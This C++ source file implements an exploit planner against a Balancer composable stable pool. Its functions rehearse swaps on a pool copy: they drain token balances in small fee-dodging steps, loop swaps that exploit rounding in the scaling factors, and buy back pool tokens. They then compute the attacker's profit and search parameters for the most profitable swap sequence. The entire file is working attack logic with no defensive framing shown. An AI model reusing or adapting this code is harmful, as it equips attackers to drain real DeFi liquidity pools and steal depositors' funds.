#include "defi/balancer_attacker.hpp"

#include <array>
#include <utility>

namespace margincall::balancer {

namespace {

// A pool that a plan is tried on: swaps happen whole or not at all.
class Rehearsal {
  public:
    explicit Rehearsal(const ComposableStablePool& pool) : pool_(pool) {}

    [[nodiscard]] Revert take(AttackStage stage,
                              std::size_t in,
                              std::size_t out,
                              const U256& amount_out) {
        ComposableStablePool trial = pool_;
        const SwapRequest request{SwapKind::given_out, in, out, amount_out};
        const Outcome<SwapAmounts> amounts =
            attempt([&trial, &request] { return swap(trial, request); });
        if (!amounts) {
            return amounts.error();
        }
        pool_ = std::move(trial);
        steps_.push_back({request, stage, *amounts});
        return Revert::none;
    }
    [[nodiscard]] const ComposableStablePool& pool() const { return pool_; }
    [[nodiscard]] std::vector<AttackStep>& steps() { return steps_; }

  private:
    ComposableStablePool pool_;
    std::vector<AttackStep> steps_;
};

// Amounts that take a balance down to `left` in hundredths, since one single exit would underflow
// by its own fee.
[[nodiscard]] std::vector<U256> drain_amounts(const U256& balance, const U256& left) {
    std::vector<U256> amounts;
    U256 open = balance - left;
    U256 units = open * 99;
    while (true) {
        const U256 next = units - units / 100 * 99;
        if (next < 100) {
            amounts.push_back(open);
            return amounts;
        }
        const U256 amount = units / 100;
        amounts.push_back(amount);
        open -= amount;
        units = next;
    }
}

[[nodiscard]] std::vector<std::size_t> plain_tokens(const ComposableStablePool& pool) {
    std::vector<std::size_t> tokens;
    for (std::size_t i = 0; i < pool.balances.size(); ++i) {
        if (i != pool.bpt) {
            tokens.push_back(i);
        }
    }
    return tokens;
}

[[nodiscard]] Revert drain(Rehearsal& rehearsal, const U256& left) {
    const std::vector<std::size_t> tokens = plain_tokens(rehearsal.pool());
    std::vector<std::vector<U256>> amounts;
    std::size_t rounds = 0;
    for (const std::size_t token : tokens) {
        const U256& balance = rehearsal.pool().balances[token];
        if (balance <= left) {
            return Revert::insufficient_balance;
        }
        amounts.push_back(drain_amounts(balance, left));
        rounds = std::max(rounds, amounts.back().size());
    }
    for (std::size_t k = 0; k < rounds; ++k) {
        for (std::size_t i = 0; i < tokens.size(); ++i) {
            if (k >= amounts[i].size()) {
                continue;
            }
            const Revert reason =
                rehearsal.take(AttackStage::drain, rehearsal.pool().bpt, tokens[i], amounts[i][k]);
            if (reason != Revert::none) {
                return reason;
            }
        }
    }
    return Revert::none;
}

// The value with its two leading decimal digits, zeros after them.
[[nodiscard]] U256 leading_digits(const U256& value) {
    U256 unit{1};
    while (value / unit >= 100) {
        unit = unit * 10;
    }
    return value / unit * unit;
}

// One rounding loop; false when the pool no longer lets it through.
[[nodiscard]] bool round_once(Rehearsal& rehearsal, const AttackParameters& p) {
    const U256 keep = p.trick_amount + 1;
    const U256 balance = rehearsal.pool().balances[p.taken];
    if (balance <= keep) {
        return false;
    }
    if (rehearsal.take(AttackStage::round, p.paid, p.taken, balance - keep) != Revert::none ||
        rehearsal.take(AttackStage::round, p.paid, p.taken, p.trick_amount) != Revert::none) {
        return false;
    }
    U256 back = leading_digits(rehearsal.pool().balances[p.paid]);
    for (unsigned k = 0; k < p.retries; ++k) {
        if (rehearsal.take(AttackStage::round, p.taken, p.paid, back) == Revert::none) {
            return true;
        }
        back = back * 9 / 10;
    }
    return false;
}

// Buys BPT in steps that grow by a thousand (a larger jump makes the solver divide by zero), the
// tokens paying in turn, then the rest in two halves.
[[nodiscard]] Revert buy_back(Rehearsal& rehearsal, const U256& wanted) {
    const std::vector<std::size_t> tokens = plain_tokens(rehearsal.pool());
    const std::size_t bpt = rehearsal.pool().bpt;
    std::size_t turn = 0;
    const auto buy = [&](const U256& amount) {
        return rehearsal.take(AttackStage::buy_back, tokens[turn++ % tokens.size()], bpt, amount);
    };
    U256 step{10'000};
    while (true) {
        const Revert reason = buy(step);
        if (reason != Revert::none) {
            return reason;
        }
        if (step * 1000 >= wanted) {
            break;
        }
        step = step * 1000;
    }
    const U256 half = difference_or_zero(wanted, step) / 2 + 1;
    for (int k = 0; k < 2; ++k) {
        const Revert reason = buy(half);
        if (reason != Revert::none) {
            return reason;
        }
    }
    return Revert::none;
}

[[nodiscard]] std::vector<SignedU256> deltas_of(const std::vector<AttackStep>& steps,
                                                std::size_t tokens) {
    std::vector<SignedU256> deltas(tokens);
    for (const AttackStep& s : steps) {
        deltas[s.request.in] += s.amounts.in;
        deltas[s.request.out] -= s.amounts.out;
    }
    return deltas;
}

[[nodiscard]] SignedU256 profit_of(const ComposableStablePool& pool,
                                   const std::vector<SignedU256>& deltas) {
    SignedU256 profit;
    for (const std::size_t i : plain_tokens(pool)) {
        const U256 value = mul_down(deltas[i].magnitude, pool.scaling_factors[i]);
        if (deltas[i].is_negative()) {
            profit += value;
        } else {
            profit -= value;
        }
    }
    return profit;
}

[[nodiscard]] bool is_more(const SignedU256& a, const SignedU256& b) {
    if (a.is_negative() != b.is_negative()) {
        return b.is_negative();
    }
    return a.is_negative() ? a.magnitude < b.magnitude : a.magnitude > b.magnitude;
}

}  // namespace

std::optional<U256> trick_amount(const U256& scaling_factor) {
    const U256 fraction = scaling_factor % one;
    if (fraction.is_zero()) {
        return std::nullopt;
    }
    return one / fraction;
}

Outcome<AttackPlan> plan_attack(const ComposableStablePool& pool,
                                const AttackParameters& parameters) {
    const RevertScope scope;
    Rehearsal rehearsal{pool};
    AttackPlan plan;
    plan.parameters = parameters;
    plan.invariant_before = invariant_of(pool);
    const U256 wanted = effective_supply(pool) * parameters.margin / 1000;
    if (const Revert reason = drain(rehearsal, parameters.drained_balance);
        reason != Revert::none) {
        return std::unexpected(reason);
    }
    plan.invariant_after_drain = invariant_of(rehearsal.pool());
    for (unsigned loop = 0; loop < parameters.loops_max; ++loop) {
        if (!round_once(rehearsal, parameters)) {
            break;
        }
    }
    plan.invariant_after_round = invariant_of(rehearsal.pool());
    if (const Revert reason = buy_back(rehearsal, wanted); reason != Revert::none) {
        return std::unexpected(reason);
    }
    plan.invariant_after = invariant_of(rehearsal.pool());
    if (scope.reverted()) {
        return std::unexpected(scope.reason());
    }
    plan.deltas = deltas_of(rehearsal.steps(), pool.balances.size());
    plan.profit = profit_of(pool, plan.deltas);
    plan.pool_after = rehearsal.pool();
    plan.steps = std::move(rehearsal.steps());
    return plan;
}

std::optional<AttackPlan> search_attack(const ComposableStablePool& pool,
                                        const AttackSearch& search) {
    constexpr std::array<std::uint64_t, 4> mantissas = {1, 2, 5, 7};
    std::optional<AttackPlan> best;
    for (const std::size_t taken : plain_tokens(pool)) {
        const std::optional<U256> trick = trick_amount(pool.scaling_factors[taken]);
        if (!trick) {
            continue;
        }
        for (const std::size_t paid : plain_tokens(pool)) {
            if (paid == taken) {
                continue;
            }
            for (unsigned k = search.smallest_power; k <= search.largest_power; ++k) {
                for (const std::uint64_t m : mantissas) {
                    AttackParameters p;
                    p.drained_balance = power_of_ten(k) * m;
                    p.paid = paid;
                    p.taken = taken;
                    p.trick_amount = *trick;
                    p.loops_max = search.loops_max;
                    Outcome<AttackPlan> plan = plan_attack(pool, p);
                    if (plan && (!best || is_more(plan->profit, best->profit))) {
                        best = std::move(*plan);
                    }
                }
            }
        }
    }
    if (best && (best->profit.is_negative() || best->profit.magnitude.is_zero())) {
        return std::nullopt;
    }
    return best;
}

}  // namespace margincall::balancer
